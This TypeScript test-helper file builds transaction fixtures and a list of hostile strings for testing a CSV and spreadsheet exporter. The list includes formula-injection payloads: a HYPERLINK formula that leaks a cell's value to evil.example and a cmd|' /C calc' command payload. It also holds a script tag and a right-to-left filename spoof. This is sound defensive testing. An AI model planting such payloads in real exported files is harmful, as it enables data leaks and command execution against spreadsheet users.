import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after } from "node:test";
import { DuckDBInstance } from "@duckdb/node-api";
import { type ExportRequest, exportTransactions } from "../../src/app/export/exporter.ts";
import { FIRST_EXPORT_OPTIONS } from "../../src/app/export/exportOptions.ts";
import type { RowCount } from "../../src/domain/report.ts";
import { MICROS_PER_SECOND, type Transaction } from "../../src/domain/transaction.ts";
import { HOSTILE_TEXTS } from "./hostileTexts.ts";

/** Texts that have broken some reader of files, each in its own way, and those that have done harm anywhere else. */
const BROKEN_READERS: readonly string[] = [
  // DuckDB's binding takes a mark away that a text begins with.
  ...Object.values(HOSTILE_TEXTS).filter((text) => !text.startsWith("\uFEFF")),
  " leading and trailing ",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+SUM(A1:A9)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "'=1+1",
  "''-quoted",
  "＝1+1",
  "-5",
  "+1.50",
  'a "quoted" word',
  "comma, semicolon; pipe|tab\tend",
  "line one\r\nline two\nline three\rend",
  "<script>alert(1)</script> &amp; ]]> <!-- -->",
  "[click](command:workbench.action.quit) $(error)",
  "\u202Egnp.exe\u2066 right to left \u2069",
  "अमान्य पैन नंबर 🙈",
  "bell \u0007 vertical \v form \f escape \u001B end \u007F",
  "looks like an escape _x0041_ and __x000D_",
  "mark \uFEFF noncharacters \uFFFE\uFFFF end",
  "x".repeat(10_000),
];

/** Halves of surrogate pairs can not be written in UTF-8; every format writes U+FFFD for them. */
const LONE_SURROGATES = "low \uDE48 high \uD83D";
export const LONE_SURROGATES_WRITTEN = "low \uFFFD high \uFFFD";

/** What is left of a text in UTF-8. */
export function wellFormed(text: string): string {
  return Buffer.from(text).toString();
}

/** Transactions newest first, with microseconds, refunds and charges of one to four decimals. */
export function transactions(count: number): Transaction[] {
  const newest = Date.UTC(2026, 2, 1, 18, 29, 59) * 1000 + 999_999;
  return Array.from({ length: count }, (_, i) => ({
    id: `${String(i).padStart(8, "0")}-0000-4000-8000-000000000000`,
    at: newest - i * (3_601 * MICROS_PER_SECOND + 7),
    product: ["pan-basic", "gst-advanced", "bank-verify"][i % 3] ?? "",
    status: i % 5 === 4 ? 422 : 200,
    message: i % 2 === 0 ? "Invalid Pan Number." : "Verified Successfully",
    charge: [29_500, 625, -40_000, 1, 0, 123_456_789][i % 6] ?? 0,
  }));
}

/** Transactions with every hostile text as product, message, and id. */
export function hostileTransactions(): Transaction[] {
  return [...new Set([...BROKEN_READERS, LONE_SURROGATES])].map((text, i) => ({
    id: `${text}#${i}`,
    at: Date.UTC(2026, 0, 31, 12) * 1000 - i,
    product: text,
    status: 200,
    message: text,
    charge: i,
  }));
}

/** What the ledger would say that rows add up to. */
export function totalsOf(rows: readonly Transaction[]): RowCount {
  return { calls: rows.length, charge: sumOfCharges(rows) };
}

export function sumOfCharges(rows: readonly Transaction[]): number {
  return rows.reduce((sum, { charge }) => sum + charge, 0);
}

export async function* inPages(rows: readonly Transaction[], size = 100): AsyncGenerator<readonly Transaction[]> {
  for (let start = 0; start < rows.length; start += size) {
    await Promise.resolve();
    yield rows.slice(start, start + size);
  }
}

export function exportRequest(
  request: Pick<ExportRequest, "format" | "target"> & Partial<ExportRequest>,
): ExportRequest {
  return {
    heading: {
      accountLabel: "clie…9f2c",
      period: { since: "2026-01-01", until: "2026-03-01" },
      zone: "Asia/Kolkata",
      filter: "",
    },
    options: FIRST_EXPORT_OPTIONS,
    // So many that no test that breaks off gets there.
    expected: { calls: 1_000_000, charge: 0 },
    outcomes: [],
    ...request,
  };
}

/** Exports rows in pages; what the exporter said of it, and where they are. */
export async function exportRows(
  request: Parameters<typeof exportRequest>[0],
  rows: readonly Transaction[],
  pageSize?: number,
) {
  const pages = inPages(rows, pageSize);
  const asked = exportRequest({ expected: totalsOf(rows), ...request });
  const result = await exportTransactions(asked, pages, () => undefined, NEVER);
  return { target: request.target, result };
}

/** A folder that is gone after the tests of the file. */
export function temporaryFolder(): string {
  const folder = mkdtempSync(join(tmpdir(), "deepvue-export-"));
  after(() => rmSync(folder, { recursive: true, force: true }));
  return folder;
}

export const NEVER = new AbortController().signal;

/** Asks DuckDB; the values come as texts, numbers and booleans. */
export async function duckDb(sql: string, sessionZone = "UTC"): Promise<Record<string, unknown>[]> {
  const instance = await DuckDBInstance.create();
  const connection = await instance.connect();
  try {
    await connection.run(`SET TimeZone = '${sessionZone}'`);
    const reader = await connection.runAndReadAll(sql);
    return reader.getRowObjectsJson();
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
}
